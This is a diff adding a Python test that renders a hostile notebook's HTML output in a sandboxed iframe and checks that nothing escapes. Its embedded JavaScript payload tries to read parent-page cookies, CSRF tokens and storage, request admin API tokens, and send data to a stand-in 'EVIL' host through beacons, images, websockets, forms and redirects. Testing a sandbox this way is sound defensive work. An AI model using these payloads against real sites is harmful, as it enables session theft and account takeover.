@@ -1,0 +1,143 @@
+"""What a hostile notebook's output tries in the page that shows it."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import psycopg
+import pytest
+from nbformat.v4 import new_code_cell, new_notebook
+from playwright.async_api import expect
+
+from looking import looking
+from pressroom.settings import Settings
+
+ATTACK = """
+<pre id="report"></pre>
+<form id="form" method="post" action="/db/tokens"><input name="scopes" value="admin"></form>
+<form id="away" method="post" action="EVIL/form"><input name="a" value="1"></form>
+<a id="download" download href="data:text/plain,x">x</a>
+<script>
+(async () => {
+  const report = {};
+  const attempt = async (name, action) => {
+    try { report[name] = String(await action()); } catch (error) { report[name] = "refused: " + error.name; }
+  };
+  await attempt("origin", () => self.origin);
+  await attempt("cookie", () => document.cookie);
+  await attempt("cookie of the parent", () => parent.document.cookie);
+  await attempt("page of the parent", () => parent.document.body.innerHTML);
+  await attempt("token of the parent", () => top.document.querySelector("[name=csrf_token]").value);
+  await attempt("storage", () => localStorage.getItem("a"));
+  await attempt("storage of the parent", () => parent.localStorage.getItem("a"));
+  await attempt("database", () => indexedDB.open("x"));
+  await attempt("api", async () => (await fetch("/db/tokens", {method: "POST", credentials: "include",
+    headers: {"Content-Type": "application/json"}, body: '{"scopes": ["admin"]}'})).status);
+  await attempt("api, blindly", async () => (await fetch("/execute", {method: "POST", mode: "no-cors",
+    credentials: "include", body: "{}"})).type);
+  await attempt("beacon", () => navigator.sendBeacon("EVIL/beacon", "x") && "called");
+  await attempt("picture", () => new Promise((done, refused) => {
+    const picture = new Image();
+    picture.onload = () => done("loaded");
+    picture.onerror = () => refused(new DOMException("", "Blocked"));
+    picture.src = "EVIL/picture";
+  }));
+  await attempt("socket", () => new Promise((done, refused) => {
+    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
+    socket.onopen = () => done("open");
+    socket.onerror = () => refused(new DOMException("", "Blocked"));
+  }));
+  await attempt("worker", () => navigator.serviceWorker.register("/db/worker.js"));
+  await attempt("window", () => String(window.open("EVIL/window")));
+  await attempt("message", () => { parent.postMessage({notice: "cancelled", html: "<b>x</b>"}, "*"); return "sent"; });
+  await attempt("question", () => String(alert("x")));
+  await attempt("form", () => { document.getElementById("form").submit(); return "called"; });
+  await attempt("form to another site", () => { document.getElementById("away").submit(); return "called"; });
+  await attempt("download", () => { document.getElementById("download").click(); return "called"; });
+  await attempt("top", () => { top.location = "EVIL/top"; return "called"; });
+  await attempt("link to the top", () => {
+    const link = document.createElement("a");
+    link.target = "_top";
+    link.href = "EVIL/link";
+    document.body.append(link);
+    link.click();
+    return "called";
+  });
+  document.getElementById("report").textContent = JSON.stringify(report);
+})();
+</script>
+"""
+REFUSED = {
+    *("cookie", "cookie of the parent", "page of the parent", "token of the parent", "storage"),
+    *("storage of the parent", "database", "api", "api, blindly", "picture", "socket", "worker", "top"),
+}
+LEAVING = '<meta http-equiv="refresh" content="0;url=EVIL/refresh"><script>location = "EVIL/location"</script>'
+
+
+@pytest.fixture
+def evil() -> Iterator[tuple[str, list[str]]]:
+    """Another site, and what it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+        def log_message(self, *_: Any) -> None:
+            """Say nothing."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+async def test_what_a_hostile_notebook_puts_out_gets_nowhere(
+    service: Any, home: Path, settings: Settings, evil: tuple[str, list[str]]
+) -> None:
+    address, asked = evil
+    for name, attack in (("attack", ATTACK), ("leaving", LEAVING)):
+        show = f"from IPython.display import HTML, display\ndisplay(HTML({attack.replace('EVIL', address)!r}))"
+        nbformat.write(new_notebook(cells=[new_code_cell(show)]), home / f"{name}.ipynb")
+    async with looking(service.url, "laptop", 1280) as at:
+        await at.context.add_cookies([{"name": "pressroom_theme", "value": "dark", "url": at.url}])
+        page = await at.page()
+        popups: list[str] = []
+        at.context.on("page", lambda page: popups.append(page.url))
+        downloads: list[str] = []
+        page.on("download", lambda download: downloads.append(download.url))
+        numbers: list[int] = []
+        for name in ("attack", "leaving"):
+            sent = await page.request.post(f"{at.url}/execute", data={"input_path": str(home / f"{name}.ipynb")})
+            assert sent.ok, await sent.text()
+            numbers.append((await sent.json())["execution_id"])
+        here = f"{at.url}/executions/{numbers[0]}"
+        await page.goto(here)
+        report = page.frame_locator("iframe.sheet").locator("#report")
+        await expect(report).to_contain_text("link to the top")
+        told = await report.evaluate("node => JSON.parse(node.textContent)")
+        assert told["origin"] == "null"
+        assert {name for name in told if told[name].startswith("refused")} >= REFUSED, told
+        assert told["window"] == "null"
+        assert page.url == here
+        leaving = f"{at.url}/executions/{numbers[1]}"
+        await page.goto(leaving)
+        await expect(page.locator("iframe.sheet")).to_be_visible()
+        await page.wait_for_load_state("networkidle")
+        assert page.url == leaving
+        assert (asked, popups, downloads) == ([], [], [])
+    assert settings.database_url is not None
+    with psycopg.connect(settings.database_url.get_secret_value().replace("+psycopg", "")) as plain:
+        assert plain.execute("SELECT count(*) FROM access_tokens").fetchone() == (0,)
+        assert plain.execute("SELECT count(*) FROM notebook_executions").fetchone() == (2,)
